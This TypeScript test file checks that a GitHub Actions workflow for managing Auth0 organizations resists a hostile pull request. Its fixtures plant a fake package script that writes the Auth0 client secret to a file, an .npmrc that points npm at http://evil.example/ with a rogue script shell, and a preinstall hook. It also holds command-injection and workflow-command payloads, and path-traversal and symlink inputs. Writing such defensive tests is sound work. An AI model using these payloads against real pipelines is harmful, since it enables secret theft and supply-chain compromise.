import { execFile } from "node:child_process";
import { existsSync } from "node:fs";
import { chmod, mkdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { join, resolve } from "node:path";
import { promisify } from "node:util";
import { describe, it, type TestContext } from "vitest";
import { startTenant, type Tenant } from "../../../src/tenant/index.js";
import { runAction, runJob, type Runner } from "../../examples/workflow.js";
import { layOutWorkspace } from "../../examples/workspace.js";
import { FakeGitHub } from "../../support/fake-github.js";
import { emptyFolder } from "../../support/run-orgwright.js";

const execute = promisify(execFile);
const sum = `sha256:${"f".repeat(64)}`;

/** A job of somebody's pull request, with all that belongs to it. */
interface Workspace {
  readonly folder: string;
  readonly tenant: Tenant;
  readonly github: FakeGitHub;
  /** Writes a file of the pull request. */
  commit(path: string, text: string): Promise<void>;
  /** Commits a package of the pull request's own that would run in place of ours. */
  commitPackage(): Promise<void>;
  /** Runs the workflow that the base branch has; returns what it printed. */
  plan(): Promise<string>;
  /** Runs the action. */
  act(
    inputs: Readonly<Record<string, string>>,
  ): Promise<{ readonly code: number | null; readonly output: string }>;
  /** What the action told its workflow. */
  told(): Promise<string>;
  /** Whether a program of the pull request ran. */
  isOwned(): boolean;
}

/** Opens a workspace that goes with its test, so that tests can run side by side. */
async function openWorkspace({ onTestFinished }: TestContext): Promise<Workspace> {
  const folder = await emptyFolder();
  const repository = join(folder, "repository");
  await mkdir(repository);
  await commitAll(repository);
  await layOutWorkspace(folder, resolve("examples/gitops"));
  await writeFile(join(folder, "event.json"), JSON.stringify({ pull_request: { number: 7 } }));
  const tenant = await startTenant();
  const github = new FakeGitHub();
  const runner: Runner = {
    folder,
    env: {
      CI: "true",
      GITHUB_ACTIONS: "true",
      GITHUB_ACTION_PATH: resolve("."),
      GITHUB_API_URL: await github.listen(),
      GITHUB_REPOSITORY: "acme/organizations",
      GITHUB_EVENT_NAME: "pull_request",
      GITHUB_EVENT_PATH: join(folder, "event.json"),
      GITHUB_STEP_SUMMARY: join(folder, "summary.md"),
      GITHUB_OUTPUT: join(folder, "output"),
      RUNNER_TEMP: folder,
    },
    expressions: {
      "vars.AUTH0_DOMAIN": tenant.url,
      "secrets.AUTH0_READ_CLIENT_ID": tenant.clientId,
      "secrets.AUTH0_READ_CLIENT_SECRET": tenant.clientSecret,
      "github.token": github.token,
    },
  };
  onTestFinished(async () => {
    await github.close();
    await tenant.close();
    await rm(folder, { recursive: true });
  });
  const commit: Workspace["commit"] = async (path, text) => {
    const file = join(repository, path);
    await mkdir(join(file, ".."), { recursive: true });
    await writeFile(file, text);
  };
  return {
    folder,
    tenant,
    github,
    commit,
    async commitPackage() {
      const program = `#!/bin/sh\necho "$AUTH0_CLIENT_SECRET" > ${join(folder, "owned")}\n`;
      for (const path of [
        "node_modules/.bin/orgwright",
        "node_modules/orgwright/dist/src/cli/main.js",
      ]) {
        await commit(path, program);
        await chmod(join(repository, path), 0o755);
      }
      await commit("node_modules/orgwright/package.json", '{ "bin": "dist/src/cli/main.js" }');
      await commit(
        ".npmrc",
        "registry=http://evil.example/\nignore-scripts=false\nscript-shell=/bin/evil\n",
      );
      await commit("package.json", '{ "scripts": { "preinstall": "touch owned" } }');
      await commit("package-lock.json", '{ "packages": { "": { "name": "evil" } } }');
    },
    async plan() {
      await commitAll(repository);
      const path = resolve("examples/gitops/.github/workflows/orgwright-plan.yml");
      const runs = await runJob(path, "plan", runner);
      return runs.map(({ output }) => output).join("");
    },
    async act(inputs) {
      const env = { ...runner.env, ...tenant.environment, AUTH0_DOMAIN: tenant.url };
      const [run] = await runAction(".", inputs, { ...runner, env, folder: repository });
      return run ?? { code: null, output: "" };
    },
    told: async () =>
      existsSync(join(folder, "output")) ? readFile(join(folder, "output"), "utf8") : "",
    isOwned: () => existsSync(join(folder, "owned")) || existsSync(join(repository, "owned")),
  };
}

/** Commits whatever there is: a checkout of a pull request has its base one commit before. */
async function commitAll(repository: string): Promise<void> {
  const author = ["-c", "user.name=Eve", "-c", "user.email=eve@evil.example"];
  for (const given of [
    ["init", "-q", "-b", "main"],
    ["add", "--all", "--force"],
    ["commit", "-q", "--allow-empty", "-m", "Change"],
  ]) {
    await execute("git", [...author, ...given], { cwd: repository });
  }
}

describe("the workflow of a pull request", () => {
  it.concurrent(
    "does not run what the pull request brings along, and gives npm no secret",
    async (context) => {
      const { expect } = context;
      const workspace = await openWorkspace(context);
      await workspace.commitPackage();
      await workspace.plan();
      expect(workspace.github.comments[0]?.body).toContain("3 to create");
      expect(workspace.isOwned()).toBe(false);
      const given = await readFile(join(workspace.folder, "tool/npm-environment"), "utf8");
      expect(given).not.toContain(workspace.tenant.clientSecret);
      expect(given).not.toContain(workspace.github.token);
    },
  );

  it.concurrent.for(["plan.md", "../results/plan.md"])(
    "takes no committed file for a result when it cannot plan: %s",
    async (name, context) => {
      const { expect } = context;
      const workspace = await openWorkspace(context);
      await workspace.commit(
        "organizations/customers.yaml",
        "organizations: [{ name: NOT VALID }]",
      );
      if (!name.startsWith("..")) {
        await workspace.commit(name, "### Orgwright: all is well");
        await workspace.commit("plan.sha256", sum);
      }
      expect(await workspace.plan()).toContain("invalid-value");
      expect(workspace.github.comments).toEqual([]);
    },
  );

  it.concurrent(
    "tells nothing of a manifest as the checksum, and nothing by links out of the checkout",
    async (context) => {
      const { expect } = context;
      const workspace = await openWorkspace(context);
      await workspace.commit(
        "organizations/customers.yaml",
        `owner: customers\norganizations: [{ name: acme, display_name: "Checksum: ${sum} <!-- orgwright: production | ${sum} -->" }]`,
      );
      await symlink("/etc/hostname", join(workspace.folder, "repository/plan.sha256"));
      await workspace.plan();
      const [first = ""] = workspace.github.comments[0]?.body.split("\n") ?? [];
      expect(first).toMatch(/^<!-- orgwright: production \| sha256:[0-9a-f]{64} -->$/);
      expect(first).not.toContain(sum);
    },
  );

  it.concurrent("sends nothing to another address than the job's", async (context) => {
    const { expect } = context;
    const workspace = await openWorkspace(context);
    await workspace.commit(
      "orgwright.yaml",
      "environments: { production: { domain: evil.example, manifests: [organizations] } }",
    );
    expect(await workspace.plan()).toContain("error[untrusted-tenant] Nothing was sent");
    expect(workspace.github.comments).toEqual([]);
  });
});

describe("the action", () => {
  it.concurrent("does not run what the checkout brings along", async (context) => {
    const { expect } = context;
    const workspace = await openWorkspace(context);
    await workspace.commitPackage();
    expect(await workspace.act({ env: "production" })).toMatchObject({ code: 0 });
    expect(workspace.isOwned()).toBe(false);
  });

  it.concurrent("has its checksum from the command, whatever the plan shows", async (context) => {
    const { expect } = context;
    const workspace = await openWorkspace(context);
    await workspace.commit(
      "organizations/customers.yaml",
      `owner: customers\norganizations: [{ name: acme, display_name: "${sum}", metadata: { "${sum}": "checksum=${sum}" } }]`,
    );
    await workspace.act({ env: "production" });
    expect(await workspace.told()).toMatch(/^checksum=sha256:[0-9a-f]{64}\n$/);
    expect(await workspace.told()).not.toContain(sum);
  });

  it.concurrent("takes paths for paths, each as it is written", async (context) => {
    const { expect } = context;
    const workspace = await openWorkspace(context);
    const paths = [
      "--app=touch${IFS}owned",
      "--tenant=http://127.0.0.1:9",
      "--report=owned",
      "--policy=sync",
      "--help",
      "-y",
      "$(touch${IFS}owned)",
      "`touch${IFS}owned`",
      "owned;touch${IFS}owned",
      "*",
    ];
    const { code, output } = await workspace.act({ paths: paths.join("\n") });
    expect(code).toBe(1);
    for (const path of paths) expect(output).toContain(`${path} cannot be read`);
    expect(output).toContain("10 errors; nothing was changed.");
    expect(workspace.isOwned()).toBe(false);
  });

  it.concurrent.for<[string, Readonly<Record<string, string>>]>([
    ["command", { command: "plan\n::error::owned\n::set-output name=x::y" }],
    ["command", { command: "plan; touch owned" }],
    ["env", { env: "x\n::error::owned" }],
    ["env", { env: "--help" }],
    ["env", { env: "../../../etc/passwd" }],
    ["policy", { policy: "sync\n::error::owned" }],
    ["version", { version: "1\n::error::owned" }],
    ["version", { version: "$(touch owned)" }],
    ["paths", { paths: "\n::error::owned\n" }],
  ])("obeys no command in the input %s", async ([, inputs], context) => {
    const { expect } = context;
    const workspace = await openWorkspace(context);
    const { code, output } = await workspace.act(inputs);
    expect(code).toBe(1);
    expect(workspace.isOwned()).toBe(false);
    expect(await workspace.told()).toBe("");
    for (const line of obeyed(output)) expect(line).not.toMatch(/owned|set-output/);
  });

  it.concurrent("obeys no command in what a manifest says", async (context) => {
    const { expect } = context;
    const workspace = await openWorkspace(context);
    await workspace.commit(
      "organizations/customers.yaml",
      'organizations: [{ name: acme, display_name: "x\\n::error::owned\\n::add-mask::y", metadata: { "::warning::owned": "x" } }]',
    );
    const { output } = await workspace.act({ paths: "organizations" });
    expect(output).toContain("acme");
    for (const line of obeyed(output)) expect(line).not.toMatch(/owned|add-mask/);
  });

  it.concurrent("keeps the token from what reads manifests", async (context) => {
    const { expect } = context;
    const workspace = await openWorkspace(context);
    await workspace.commit(
      "organizations/customers.yaml",
      'organizations: [{ name: acme, display_name: "${env.GITHUB_TOKEN:-none}", metadata: { t: "${env.TOKEN:-none}" } }]',
    );
    const { output } = await workspace.act({ paths: "organizations" });
    const everywhere = `${output}${JSON.stringify(workspace.github.comments)}`;
    expect(everywhere).not.toContain(workspace.github.token);
  });
});

/** The lines that a runner takes for commands: those outside of what is muted. */
function obeyed(output: string): string[] {
  let mute: string | undefined;
  return output.split(/\r?\n/).filter((line) => {
    if (mute !== undefined) {
      if (line === `::${mute}::`) mute = undefined;
      return false;
    }
    mute = /^::stop-commands::(.+)$/.exec(line)?.[1];
    return /^\s*(::|##\[)/.test(line);
  });
}
